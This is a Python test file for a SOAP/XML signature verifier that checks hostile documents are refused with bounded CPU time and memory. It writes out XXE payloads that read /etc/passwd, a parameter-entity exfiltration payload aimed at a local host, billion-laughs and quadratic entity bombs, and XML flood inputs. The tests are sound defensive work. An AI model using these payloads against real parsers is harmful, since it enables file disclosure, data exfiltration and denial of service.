"""Bombs, floods and external entities (S6, S7): refused, and cheaply. Costs are compared with one RSA signature."""

from __future__ import annotations

import gc
import statistics
import time
import tracemalloc
from collections.abc import Callable

import pytest

from support.vihf_forgery import C14N, ENVELOPED, Recipe, envelope, failed_codes, judge, sign, unsigned
from support.vihf_tokens import ASSERTION_ID, signer

_BOMB = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
_QUADRATIC = "&a;" * 2000
DTDS = {
    "bare": "<!DOCTYPE x>",
    "internal entity": '<!DOCTYPE x [<!ENTITY a "x">]>',
    "external entity, file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "external entity, http": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/x">]>',
    "external entity, public": '<!DOCTYPE x [<!ENTITY a PUBLIC "x" "http://127.0.0.1:9/x">]>',
    "external DTD, file": '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    "external DTD, http": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    "external DTD, public": '<!DOCTYPE x PUBLIC "-//x" "http://127.0.0.1:9/x.dtd">',
    "parameter entity": "<!DOCTYPE x [<!ENTITY % a \"<!ENTITY b 'x'>\"> %a;]>",
    "parameter entity, file": '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]>',
    "parameter entity, exfiltration": (
        '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://127.0.0.1:9/?%f;"> %d;]>'
    ),
    "billion laughs": f'<!DOCTYPE x [<!ENTITY a0 "lol">{_BOMB}]>',
    "billion laughs, used": f'<!DOCTYPE x [<!ENTITY a0 "lol">{_BOMB}]><!--&a11;-->',
    "quadratic entity": f'<!DOCTYPE x [<!ENTITY a "{"x" * 20_000}"><!ENTITY b "{_QUADRATIC}">]>',
    "recursive entity": '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
    "ATTLIST that declares an ID": "<!DOCTYPE x [<!ATTLIST x y ID #IMPLIED>]>",
    "ATTLIST with a default": '<!DOCTYPE x [<!ATTLIST x y CDATA "z">]>',
    "NOTATION": '<!DOCTYPE x [<!NOTATION n SYSTEM "x">]>',
    "conditional section": "<!DOCTYPE x [<![INCLUDE[<!ENTITY a 'x'>]]>]>",
    "unparsed entity": '<!DOCTYPE x [<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "x" NDATA n>]>',
    "a thousand declarations": "<!DOCTYPE x [" + "".join(f'<!ENTITY e{i} "x">' for i in range(1000)) + "]>",
    "unterminated": "<!DOCTYPE x [",
    "after a comment": "<!--x--><!DOCTYPE x>",
}


def _in_header(xml: str) -> bytes:
    return envelope().replace(b"<soap:Header>", b"<soap:Header>" + xml.encode())


def _with(text: bytes, replacement: bytes) -> bytes:
    data = envelope()
    assert text in data
    return data.replace(text, replacement, 1)


FLOODS = {
    "50 000 attributes": _in_header("<x " + " ".join(f'a{i}="{i}"' for i in range(50_000)) + "/>"),
    "33 attributes": _in_header("<x " + " ".join(f'a{i}="{i}"' for i in range(33)) + "/>"),
    "depth 20 000": _in_header("<x>" * 20_000 + "</x>" * 20_000),
    "depth 300": _in_header("<x>" * 300 + "</x>" * 300),
    "200 000 elements": _in_header("<x/>" * 200_000),
    "6 000 elements": _in_header("<x/>" * 6_000),
    "a header of 70 kB": _in_header(f"<x>{'y' * 70_000}</x>"),
    "an attribute of 900 kB": _in_header(f'<x a="{"y" * 900_000}"/>'),
    "a message of 2 MB": _with(b"<soap:Body>", b"<soap:Body>" + b"y" * 2_000_000),
    "10 000 namespaces": _in_header("<x " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(10_000)) + "/>"),
    "2 000 transforms": _with(
        b"</Transforms>", f'<Transform Algorithm="{C14N}"></Transform>'.encode() * 2_000 + b"</Transforms>"
    ),
    "1 000 signatures": _with(b"<soap:Body>", b"<soap:Body>" + b"<Signature/>" * 1_000),
    "1 000 assertions": _with(b"<soap:Body>", b"<soap:Body>" + b"<Assertion/>" * 1_000),
    "10 000 ids": _with(b"<soap:Body>", b"<soap:Body>" + f'<x id="{ASSERTION_ID}"/>'.encode() * 10_000),
    "5 000 comments": _in_header("<!--x-->" * 5_000),
    "10 000 prefixes in the list": sign(unsigned(), recipe=Recipe(prefixes=tuple(f"p{i}" for i in range(10_000)))),
    "base64 of 500 kB": _with(b"<DigestValue>", b"<DigestValue>" + b"A" * 500_000),
    "white space of 500 kB in base64": _with(b"<SignatureValue>", b"<SignatureValue>" + b" " * 500_000),
}


@pytest.mark.parametrize("name", DTDS)
def test_a_dtd_is_refused(name: str):
    data = DTDS[name].encode() + envelope()
    verification = judge(data)
    assert failed_codes(verification)[0] in {"doctype", "xml"}
    assert not verification.accepted


@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_is_refused(name: str):
    assert not judge(FLOODS[name]).accepted


def _cost(work: Callable[[bytes], object], data: bytes, repeats: int = 5) -> float:
    """Processor seconds of one call, the least of a few: the machine may be busy."""
    gc.disable()
    try:
        return min(_once(work, data) for _ in range(repeats))
    finally:
        gc.enable()


def _once(work: Callable[[bytes], object], data: bytes) -> float:
    start = time.process_time()
    work(data)
    return time.process_time() - start


@pytest.fixture(scope="module")
def signature_cost() -> float:
    return statistics.median(_cost(signer().sign, b"x" * 700, 3) for _ in range(20))


# About 50 ms on the machine the limit was set on, where an RSA-2048 signature costs 0.27 ms.
_ALLOWED = 185


@pytest.mark.parametrize("name", [*DTDS, *FLOODS])
def test_a_hostile_document_costs_at_most_fifty_milliseconds(name: str, signature_cost: float):
    data = FLOODS[name] if name in FLOODS else DTDS[name].encode() + envelope()
    assert _cost(judge, data) <= signature_cost * _ALLOWED


@pytest.mark.parametrize("name", [*DTDS, *FLOODS])
def test_a_hostile_document_costs_no_python_memory_to_speak_of(name: str):
    data = FLOODS[name] if name in FLOODS else DTDS[name].encode() + envelope()
    tracemalloc.start()
    judge(data)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 5_000_000


def test_a_transform_that_would_cost_is_refused_before_it_runs():
    """XSLT ran before the signature was checked in other verifiers, doubling with each depth."""
    data = sign(unsigned(), recipe=Recipe(transforms=(ENVELOPED, "http://www.w3.org/TR/1999/REC-xslt-19991116")))
    assert failed_codes(judge(envelope(data))) == ["algorithmes"]


def test_the_twin_just_within_each_limit_is_accepted():
    for xml in (
        "<x " + " ".join(f'a{i}="{i}"' for i in range(32)) + "/>",
        "<x/>" * 4_000,
        f"<x>{'y' * 50_000}</x>",
        "<x>" * 100 + "</x>" * 100,
    ):
        assert judge(_in_header(xml)).accepted
    assert judge(_with(b"<soap:Body>", b"<soap:Body>" + b"y" * 900_000)).accepted
